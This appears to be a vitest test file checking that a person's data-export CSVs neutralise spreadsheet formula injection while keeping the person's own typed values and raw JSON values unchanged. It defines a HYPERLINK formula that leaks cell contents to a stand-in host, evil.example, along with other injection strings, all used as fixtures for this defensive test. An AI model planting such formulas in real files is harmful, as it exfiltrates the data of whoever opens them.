// The person's own export CSVs: what the person typed stays as it is, and a spreadsheet formula
// that staff, an import or a connected system wrote is defused, so opening the file runs nothing.
import { parse } from "csv-parse/sync";
import { strFromU8, unzipSync } from "fflate";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { correctPerson } from "@/lib/persons/correct-person";
import { getDataExportDownload } from "@/lib/requests/get-data-export-download";
import { requestDataExport } from "@/lib/requests/request-data-export";
import { createPublishedPurpose } from "../../factories/purposes";
import { createFullPerson, createOfficer } from "../../factories/requests";
import { runQueue } from "../../support/run-queue";
import { setupTestDatabase, type TestDatabase } from "../../support/test-database";

let t: TestDatabase;
beforeAll(async () => {
  t = await setupTestDatabase();
});
afterAll(async () => {
  await t.drop();
});

const LINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';

describe("formulas in the person's export", () => {
  it("defuses them in values others wrote and keeps the person's own values intact", async () => {
    const prisma = t.database.prisma;
    const a = await createFullPerson(prisma, await createPublishedPurpose(), "formula");
    const officer = await createOfficer(prisma);
    const id = a.person.id;
    await correctPerson({ actor: officer.actor, personId: id, input: { familyName: LINK }, source: "STAFF", reason: "phone call" });
    await correctPerson({ actor: officer.actor, personId: id, input: { streetAddress: "+1+2" }, source: "IMPORT", system: "crm" });
    // The person typed a city after a system had set one: theirs now, kept as typed.
    await correctPerson({ actor: officer.actor, personId: id, input: { city: "@First" }, source: "SYSTEM", system: "crm" });
    await correctPerson({ actor: a.actor, personId: id, input: { city: "-Keski" }, source: "PERSON" });
    // The person typed a given name a system then overwrote: no longer theirs.
    await correctPerson({ actor: a.actor, personId: id, input: { givenName: "=Person" }, source: "PERSON" });
    await correctPerson({ actor: officer.actor, personId: id, input: { givenName: "=1+1" }, source: "SYSTEM", system: "crm" });
    await prisma.interaction.create({ data: { personId: id, system: "webshop", externalId: "-2+3", kind: "PURCHASE", occurredAt: new Date(), summary: LINK, amountMinor: -500, currency: "EUR" } });
    await prisma.organization.update({ where: { id: a.org.id }, data: { name: "@SUM(A1:A9)" } });
    await prisma.externalIdentity.create({ data: { personId: id, system: "shop", externalId: "=2*3" } });

    const start = new Date();
    const asked = await requestDataExport({ actor: a.actor, personId: id }, { now: start });
    await runQueue(prisma, start);
    const download = await getDataExportDownload({ actor: a.actor, personId: id, exportId: asked.exportId }, { now: start });
    const files = Object.fromEntries(Object.entries(unzipSync(new Uint8Array(download.content))).map(([name, bytes]) => [name, strFromU8(bytes)]));
    const csv = (name: string) => parse(files[`csv/${name}.csv`]!, { columns: true, bom: true, skip_empty_lines: true }) as Record<string, string>[];

    expect(csv("person")[0]).toMatchObject({ familyName: `'${LINK}`, streetAddress: "'+1+2", givenName: "'=1+1", city: "-Keski", phone: a.person.phone });
    const order = csv("interactions").find((i) => i.amountMinor === "-500")!;
    expect(order).toMatchObject({ summary: `'${LINK}`, externalId: "'-2+3", currency: "EUR" });
    expect(csv("organisations")[0]!.name).toBe("'@SUM(A1:A9)");
    expect(csv("external_identities").map((x) => x.externalId)).toContain("'=2*3");
    // No cell of any CSV starts a formula.
    for (const name of Object.keys(files).filter((n) => n.endsWith(".csv"))) {
      const rows = parse(files[name]!, { bom: true, skip_empty_lines: true }) as string[][];
      for (const cell of rows.flat()) expect(cell === "-Keski" || cell === a.person.phone || cell === "-500" || !/^[=+\-@\t\r]/.test(cell), `${name}: ${cell}`).toBe(true);
    }
    // data.json is for programs, not spreadsheets: every value exactly as stored.
    const data = JSON.parse(files["data.json"]!);
    expect(data.person).toMatchObject({ familyName: LINK, streetAddress: "+1+2", givenName: "=1+1" });
    expect(data.organisations[0].name).toBe("@SUM(A1:A9)");
  });
});
